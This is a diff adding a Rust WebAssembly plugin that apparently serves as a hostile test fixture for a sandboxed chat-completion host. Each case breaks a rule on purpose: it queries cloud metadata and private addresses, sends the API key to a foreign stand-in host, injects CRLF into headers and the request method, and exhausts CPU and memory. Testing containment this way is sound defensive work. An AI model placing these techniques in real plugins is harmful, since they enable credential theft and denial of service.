@@ -1,0 +1,171 @@
+//! A guest that breaks every rule there is. The model of a call names the rule.
+
+use bindings::{
+    Context, Failure, Fetch, Resumption, Step, answer, chunk, failure, get, host_log, jobs, meta, post, send, setting,
+    streaming, transform,
+};
+
+struct Hostile;
+bindings::export!(Hostile with_types_in bindings);
+
+impl meta::Guest for Hostile {
+    fn describe() -> String {
+        serde_json::json!({
+            "name": "hostile",
+            "version": "1.0.0",
+            "operations": ["chat.completions"],
+            // What it asks for is not what it gets.
+            "permissions": {"hosts": ["169.254.169.254", "10.0.0.1", "metadata.google.internal", "allowed.example.org"]},
+        })
+        .to_string()
+    }
+}
+
+impl transform::Guest for Hostile {
+    fn transform_request(ctx: Context, _: String) -> Result<Step, Failure> {
+        let token = setting(&ctx, "api_key");
+        let base = &ctx.base_url;
+        Ok(match ctx.model.as_str() {
+            "trap" => panic!("on purpose"),
+            "loop" => spin(),
+            "memory" => hoard(),
+            "recursion" => answer(&dig(1).to_string()),
+            "no-json" => Step::Done("{\"choices\": [".into()),
+            "no-answer" => Step::Done("[]".into()),
+            "chunk-no-json" => Step::End(vec!["data: no".into()]),
+            "giant" => answer(&"x".repeat(20 << 20)),
+            "header-break" => with_header(base, "x-a", "b\r\nx-evil: c"),
+            "header-name" => with_header(base, "x a", "b"),
+            "no-url" => send(get("://"), ""),
+            "relative-url" => send(get("/v1/chat"), ""),
+            "url-with-user" => send(get("https://user:pass@allowed.example.org/"), ""),
+            "method" => {
+                let mut request = get(base);
+                request.method = "GET / HTTP/1.1\r\nx: y\r\n\r\n".into();
+                send(request, "")
+            }
+            "framing" => {
+                let mut request = get(base);
+                request.framing = "telepathy".into();
+                send(request, "")
+            }
+            "foreign-host" => send(get("https://elsewhere.example.org/"), ""),
+            "foreign-port" => send(get("http://127.0.0.1:1/"), ""),
+            "secret-to-foreign-host" => {
+                let mut request = post("https://elsewhere.example.org/", &token);
+                request.headers.push(("authorization".into(), token.clone()));
+                send(request, "")
+            }
+            "plain-http" => send(get("http://allowed.example.org/"), ""),
+            "metadata" => send(get("http://169.254.169.254/latest/meta-data/"), ""),
+            "metadata-name" => send(get("http://metadata.google.internal/"), ""),
+            "private" => send(get("https://10.0.0.1/"), ""),
+            "secret-in-error" => return Err(failure("invalid-request", &format!("the key is {token}"))),
+            "log-flood" => {
+                for _ in 0..64 {
+                    host_log::log("info", &"x".repeat(16 << 10), &vec![]);
+                }
+                answer("still here")
+            }
+            "upload" => {
+                let mut request = post(base, "");
+                request.body = bindings::Body::Upload("0".into());
+                send(request, "")
+            }
+            "emit-then-done" => Step::Fetch(Fetch {
+                emit: vec![chunk("first")],
+                delay_ms: 0,
+                request: get(base),
+                state: String::new(),
+            }),
+            "push-loop" | "push-trap" | "push-no-json" | "finish-trap" => {
+                let mut request = get(base);
+                request.framing = "sse".into();
+                send(request, "a job")
+            }
+            "poll-forever" | "answer-on-500" | "trap-in-response" => send(get(base), "a job"),
+            _ => answer("well behaved"),
+        })
+    }
+
+    fn transform_response(ctx: Context, _: Resumption) -> Result<Step, Failure> {
+        Ok(match ctx.model.as_str() {
+            "poll-forever" => send(get(&ctx.base_url), "again"),
+            "trap-in-response" => panic!("on purpose"),
+            _ => answer("as if nothing had happened"),
+        })
+    }
+}
+
+fn with_header(url: &str, name: &str, value: &str) -> Step {
+    let mut request = get(url);
+    request.headers.push((name.into(), value.into()));
+    send(request, "")
+}
+
+fn spin() -> ! {
+    let mut n = 0_u64;
+    loop {
+        n = std::hint::black_box(n.wrapping_add(1));
+    }
+}
+
+fn hoard() -> ! {
+    let mut all: Vec<Vec<u8>> = Vec::new();
+    loop {
+        all.push(std::hint::black_box(vec![1; 1 << 20]));
+    }
+}
+
+fn dig(depth: u64) -> u64 {
+    let here = std::hint::black_box([depth; 64]);
+    if std::hint::black_box(depth) == 0 { 0 } else { dig(depth + 1) + here[7] }
+}
+
+struct Decoder(String);
+
+impl streaming::Guest for Hostile {
+    type Decoder = Decoder;
+    fn open(
+        ctx: Context,
+        _: String,
+        _: u16,
+        _: Vec<(String, String)>,
+    ) -> Result<streaming::Decoder, Failure> {
+        Ok(streaming::Decoder::new(Decoder(ctx.model)))
+    }
+}
+
+impl streaming::GuestDecoder for Decoder {
+    fn push(&self, _: Vec<streaming::Frame>) -> Result<streaming::Output, Failure> {
+        let emit = match self.0.as_str() {
+            "push-loop" => spin(),
+            "push-trap" => panic!("on purpose"),
+            "push-no-json" => vec!["nothing".into()],
+            _ => vec![chunk("fine")],
+        };
+        Ok(streaming::Output { emit, ended: false })
+    }
+
+    fn finish(&self, _: String) -> Result<Step, Failure> {
+        panic!("on purpose")
+    }
+}
+
+impl jobs::Guest for Hostile {
+    fn cancel(ctx: Context, state: String) -> Result<Step, Failure> {
+        Ok(send(post(&format!("{}/cancel", ctx.base_url), &state), "cancel"))
+    }
+}
+
+// The world has these; here they only refuse.
+impl bindings::auth::Guest for Hostile {
+    fn authenticate(_: Context, _: Option<Resumption>) -> Result<Step, Failure> {
+        Err(failure("unsupported", "none"))
+    }
+}
+impl bindings::models::Guest for Hostile {
+    fn get_models(_: Context, _: Option<Resumption>) -> Result<Step, Failure> {
+        Ok(Step::Done("{\"data\": [{\"name\": \"no id\"}]}".into()))
+    }
+}
